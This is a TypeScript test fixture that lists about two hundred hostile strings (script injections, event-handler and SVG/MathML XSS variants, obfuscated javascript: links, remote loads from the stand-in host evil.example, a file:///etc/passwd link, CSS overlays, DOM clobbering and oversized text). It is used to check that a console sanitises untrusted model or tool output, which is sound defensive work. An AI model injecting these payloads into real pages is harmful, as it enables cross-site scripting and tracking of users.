// Two hundred texts that a model, a tool, an extension or a file name may bring to the console. Each would set
// `hostileRan`, open a box or ask evil.example for something, in a page that let it. Used by console_hostile_test.ts.

const RUN = "hostileRan=1";
const AWAY = "https://evil.example/x";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title></style><script>${RUN}</script>`,
  `</pre></code><script>${RUN}</script>`,
  `<script type="module">import "${AWAY}.js"</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
];

const EVENTS = [
  ..."onerror onload onclick onmouseover onfocus onanimationstart ontoggle onpointerenter onbegin".split(" "),
  ..."onwheel oncopy onbeforetoggle onscrollend oncontentvisibilityautostatechange ontransitionend".split(
    " ",
  ),
];
const HANDLERS = EVENTS.flatMap((event) => [
  `<img src=x ${event}=${RUN}>`,
  `<details open ${event}="${RUN}"><summary>x</summary></details>`,
  `<input autofocus ${event}='${RUN}'>`,
]);

const SVG = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${RUN} attributeName=x></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="${AWAY}.svg#x"/></svg>`,
  `<svg><image href="${AWAY}.png"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
];

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u001fjavascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `javascript\u200b:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5ob3N0aWxlUmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:${AWAY}`,
  `file:///etc/passwd`,
  `view-source:javascript:${RUN}`,
];
const LINKS = SCHEMES.flatMap((address) => [
  `[a link](${address.replaceAll(/[\n\r]/g, "")})`,
  `<a href="${address}">a link</a>`,
  `![a picture](${address.replaceAll(/[\n\r]/g, "")})`,
]);

const REMOTE = [
  `![remote](${AWAY}.png)`,
  `![remote](//evil.example/x.png)`,
  `![remote][r]\n\n[r]: ${AWAY}.png`,
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 1x">`,
  `<picture><source srcset="${AWAY}.png"><img></picture>`,
  `<video src="${AWAY}.mp4" autoplay poster="${AWAY}.png"></video>`,
  `<audio src="${AWAY}.mp3" autoplay></audio>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${AWAY}"></object>`,
  `<embed src="${AWAY}">`,
  `<link rel="stylesheet" href="${AWAY}.css">`,
  `<link rel="prefetch" href="${AWAY}">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<base href="https://evil.example/">`,
  `<form action="${AWAY}"><button autofocus>x</button></form>`,
  `<a href="${AWAY}" ping="${AWAY}">x</a>`,
  `<body background="${AWAY}.png">`,
  `<table background="${AWAY}.png"><tr><td>x</table>`,
  `<portal src="${AWAY}"></portal>`,
  `<track src="${AWAY}.vtt"><input type="image" src="${AWAY}.png">`,
];

const STYLES = [
  `<style>@import "${AWAY}.css";</style>`,
  `<style>*{background:url(${AWAY}.png)}</style>`,
  `<style>body{display:none}</style>`,
  `<div style="background:url(${AWAY}.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>`,
  `<div style="width:9999px;height:9999px">x</div>`,
  `<div style="x:expression(${RUN})">x</div>`,
  `<p class="banner frame topbar">x</p>`,
  `<p id="app">x</p><p id="main">x</p>`,
  `<img name="getElementById"><form id="location"><input name="hash"></form>`,
];

const MARKS = [
  "```",
  "```html\n<script>hostileRan=1</script>",
  "~~~\n\n````",
  "**",
  "[",
  "[unclosed](",
  "![unclosed](",
  `[a](<javascript:${RUN}>)`,
  "`" + "<img src=x onerror=hostileRan=1>",
  "> ".repeat(500) + "deep",
  "- ".repeat(200) + "deep",
  "*".repeat(5000),
  "[".repeat(5000),
  "_a_".repeat(3000),
  "|".repeat(3000) + "\n" + "|-".repeat(3000),
  "<".repeat(5000),
  `<https://evil.example/"onmouseover="${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  "$" + "{hostileRan=1}" + "{{constructor.constructor('hostileRan=1')()}}",
  "&".repeat(3000) + "#x3c;script",
];

const TEXTS = [
  "\u202eevil.example/\u202d gnp.x",
  "\u2066\u2067\u2068\u2069\u202a\u202b\u202c".repeat(200),
  "a\u0300".repeat(1) + "\u0300\u0301\u0302\u0303".repeat(500),
  "W".repeat(20_000),
  "\u0000\u0001\u0008\u000b\u001b[31m\u009b31m",
  "\ud800 and \udfff alone",
  "\ufeff\u200b\u200d\u2060".repeat(200),
  "a ".repeat(20_000),
  "\n".repeat(2_000) + "the end",
  "😀".repeat(5_000),
  "__proto__",
  "constructor",
];

/** All of them. */
export const HOSTILE: readonly string[] = [
  ...[...SCRIPTS, ...HANDLERS, ...SVG, ...LINKS, ...REMOTE, ...STYLES, ...MARKS, ...TEXTS],
];
